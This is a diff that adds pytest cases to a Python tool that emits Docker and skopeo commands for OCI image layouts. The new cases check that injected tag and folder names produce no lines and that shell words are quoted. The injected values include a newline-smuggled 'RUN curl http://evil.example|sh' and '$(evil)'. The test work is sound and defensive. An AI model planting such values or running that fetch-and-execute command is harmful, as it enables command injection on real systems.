@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import subprocess
 import venv
 from pathlib import Path
@@ -121,6 +122,43 @@ def test_a_folder_is_brought_to_the_engine_or_named_as_a_context(tmp_path: Path)
     assert f"#   docker buildx build {context} ." in lines
     assert f"#   skopeo copy oci:{layout.root}:thing.1 docker-daemon:localhost/thing:latest" in lines
     assert f"COPY --from=localhost/thing:latest /{PREFIX} /{PREFIX}" in lines
+
+
+@pytest.mark.parametrize(
+    ("folder", "tag"),
+    [
+        ("layout", "x\nRUN curl http://evil.example|sh #"),
+        ("layout", "x\u2028RUN evil"),
+        ("layout", "x y"),
+        ("layout", "$(evil)"),
+        ("layout", "-x"),
+        ("lay\nRUN evil", "x"),
+        ("lay:out", "x"),
+        ("lay\u202eout", "x"),
+    ],
+)
+def test_a_name_that_no_reference_has_is_no_line(tmp_path: Path, folder: str, tag: str) -> None:
+    layout = Layout(tmp_path / folder).ensure()
+    index = write_index(layout, [small_image(layout, tmp_path / "work", files={**FILES, **LLVM}, label=OWN)])
+    layout.tag(index, "x")
+    path = layout.root / "index.json"
+    value = json.loads(path.read_text())
+    value["manifests"][0]["annotations"]["org.opencontainers.image.ref.name"] = tag
+    path.write_text(json.dumps(value))
+    found = use_of(layout, index, LayoutRef(layout.root, tag))
+    assert found.lines == ()
+    assert found.source == ""
+    done = CliRunner().invoke(app, ["inspect", f"oci:{layout.root}{'/' if ':' in folder else ''}", "--use"])
+    assert done.exit_code == 0, done.output
+    assert [line for line in done.stdout.splitlines() if not line.startswith("# not known: ")] == []
+
+
+def test_words_of_a_shell_are_quoted(tmp_path: Path) -> None:
+    layout = Layout(tmp_path / "a $(b) 'c'").ensure()
+    index = write_index(layout, [small_image(layout, tmp_path / "work", files={**FILES, **LLVM}, label=OWN)])
+    lines = use_of(layout, index, LayoutRef(layout.root, "x")).lines
+    copied = [shlex.split(line.lstrip("# ")) for line in lines if "skopeo copy" in line]
+    assert {words[2] for words in copied} == {f"oci:{layout.root}:x"}
 
 
 def test_the_pip_line_installs_what_was_unpacked(tmp_path: Path) -> None:
